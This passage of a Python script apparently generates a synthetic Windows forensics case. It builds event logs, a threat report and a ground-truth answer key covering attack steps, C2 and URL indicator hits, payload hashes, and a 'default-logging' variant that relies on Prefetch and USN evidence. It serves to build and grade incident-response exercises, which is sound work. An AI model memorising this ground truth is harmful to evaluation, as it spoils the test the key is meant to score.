    if ch == SYSMON[0] or (ch, eid) in DEFAULT_LOGGING_DROPS:
        return False
    if ch == PSOP[0] and eid == 4104:
        return ev["level"] == AUTO_LOGGED_4104_LEVEL
    return True


def default_logging_truth(steps, where, h):
    """The attack steps as the default-logging host still shows them.

    Evidence items name artefacts instead of log records where the log is
    gone: {"artefact": "prefetch", "executable", "run"} (a Prefetch run
    time), {"artefact": "usn", "path", "reason", "time"} (a USN journal
    record), {"artefact": "amcache-file", "sha1"}. Steps no artefact shows
    (the two connections: no network log) are listed under "unprovable"."""
    def pf(exe, t):
        return {"artefact": "prefetch", "executable": exe, "run": t}

    def usn(path, reason, t):
        return {"artefact": "usn", "path": path, "reason": reason, "time": t}

    def logs(tags):
        return [dict(where[x], tag=x) for x in tags if x in where]

    by_kind = {}
    for s in steps:
        by_kind.setdefault(s["kind"], []).append(s)
    out, unprovable = [], []
    for s in steps:
        s = {k: v for k, v in s.items() if k != "evidence_tags"}
        t = s["time"]
        k = s["kind"]
        if k == "updater_start":
            s["evidence"] = [pf("QEUPDATE.EXE", t)]
            s["confidence"] = "high"
        elif k == "file_write":
            s["evidence"] = [usn(s["path"], "FILE_CREATE", t)]
            s["confidence"] = "medium"      # the writer is inferred from timing
        elif k == "process_start":
            s["evidence"] = [pf("QEUPDATE_HELPER.EXE", t),
                             {"artefact": "amcache-file", "sha1": h["sha1"]}]
            s["confidence"] = "medium"      # the parent is inferred
        elif k == "encoded_powershell":
            s["evidence"] = [pf("POWERSHELL.EXE", t)] + logs(
                ["step5:400", "step5:4104:1"] +
                ["stage2:4104:%d" % i for i in range(1, s["stage2"]["parts"] + 1)])
            s["confidence"] = "medium"
        elif k == "self_delete_command":
            s["evidence"] = [pf("CMD.EXE", t), pf("PING.EXE", s["ping"]["time"])]
            s["confidence"] = "medium"      # no command line: cmd+ping, then the delete
        elif k == "self_delete":
            s["evidence"] = [usn(s["path"], "FILE_DELETE", t)]
            s["confidence"] = "medium"
        else:
            unprovable.append({"step": s["step"], "kind": k, "time": t,
                               "why": "no network log on a default-logging host (no Sysmon 3, no Security 5156)"})
            continue
        out.append(s)
    return out, unprovable


def main(argv):
    variant = None
    if len(argv) > 2 and argv[1] == "--variant":
        variant = argv[2]
        argv = argv[:1] + argv[3:]
        if variant != "default-logging":
            sys.stderr.write("mkscenario.py: unknown variant %s\n" % variant)
            return 2
    if len(argv) != 3:
        sys.stderr.write("usage: mkscenario.py [--variant default-logging] PAYLOAD OUTDIR\n")
        return 2
    h = payload_hashes(argv[1])
    case = Case(h)
    build(case)
    events = sorted(case.log.events, key=lambda e: (e[0], e[1]))
    if variant:
        events = [e for e in events if default_logging_keeps(e[2])]
    outdir = argv[2]
    os.makedirs(outdir, exist_ok=True)
    counters, where = {}, {}
    lines = ['{"format":"casetrail-evtx-scenario/1"}']
    for t, _, ev, tag in events:
        ch = ev["channel"]
        counters[ch] = counters.get(ch, 0) + 1
        if tag:
            if tag in where:
                raise SystemExit("duplicate evidence tag " + tag)
            where[tag] = {"log": LOGFILE[ch], "record": counters[ch],
                          "event_id": ev["eid"], "time": ev["time"]}
        lines.append(json.dumps(ev, ensure_ascii=False, separators=(",", ":")))
    with open(os.path.join(outdir, "scenario.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(lines) + "\n")
    with open(os.path.join(outdir, "threat-report.md"), "w", encoding="utf-8", newline="\n") as f:
        f.write(threat_report(h))

    def resolve(tags):
        return [dict(where[x], tag=x) for x in tags if x in where]

    unprovable = None
    if variant:
        case.truth["steps"], unprovable = default_logging_truth(case.truth["steps"], where, h)
    for s in case.truth["steps"] + case.truth["benign"]:
        if "evidence_tags" in s:
            s["evidence"] = resolve(s.pop("evidence_tags"))
    truth = {
        "format": "casetrail-ground-truth/1",
        "case": "reference" + ("-" + variant if variant else ""),
        "host": COMPUTER,
        "payload": {"path": PAYLOAD, "md5": h["md5"], "sha1": h["sha1"],
                    "sha256": h["sha256"], "size": h["size"], "deleted": True},
        "logs": {LOGFILE[ch]: n for ch, n in sorted(counters.items())},
        "steps": case.truth["steps"],
        "ioc_hits": [
            {"ioc": C2_1, "type": "ip-dst", "evidence": resolve(["step2:sysmon3"])},
            {"ioc": C2_2, "type": "ip-dst", "evidence": resolve(["step6:sysmon3"])},
            {"ioc": URL_1, "type": "url", "evidence": resolve(["stage2:4104:1"]),
             "note": "the stage-2 script block lists both URLs as its servers"},
            {"ioc": URL_2, "type": "url",
             "evidence": resolve(["step5:4104:1", "step5:4103:1", "step5:800:1",
                                  "stage2:4104:1"])},
            {"ioc": h["md5"], "type": "md5", "on": "deleted file " + PAYLOAD,
             "evidence": resolve(["step4:sysmon1", "step8:sysmon23"])},
            {"ioc": h["sha1"], "type": "sha1", "on": "deleted file " + PAYLOAD,
             "evidence": resolve(["step4:sysmon1", "step8:sysmon23"])},
            {"ioc": h["sha256"], "type": "sha256", "on": "deleted file " + PAYLOAD,
             "evidence": resolve(["step4:sysmon1", "step8:sysmon23"])}],
        "benign": sorted(case.truth["benign"], key=lambda b: b["time"]),
    }
    if variant:
        # The hits the remaining records give: no connection was logged, but
        # the auto-logged script blocks name both addresses and both URLs;
        # the hashes are on the deleted file's recovered content.
        auto = {C2_1: ["stage2:4104:1"], C2_2: ["step5:4104:1", "stage2:4104:1"],
                URL_1: ["stage2:4104:1"], URL_2: ["step5:4104:1", "stage2:4104:1"]}
        for x in truth["ioc_hits"]:
            if x["ioc"] in auto:
                x["evidence"] = resolve(auto[x["ioc"]])
        truth["unprovable"] = unprovable
    # The registry hives and other Windows artefacts of the disk image
    # (mkregistry.py, FACTS.md "Registry and other artefacts").
    import mkregistry
    with open(argv[1], "rb") as f:
        truth["registry"] = mkregistry.facts(case, h, f.read()).truth
    with open(os.path.join(outdir, "ground-truth.json"), "w", encoding="utf-8", newline="\n") as f:
        json.dump(truth, f, indent=2, ensure_ascii=False)
        f.write("\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
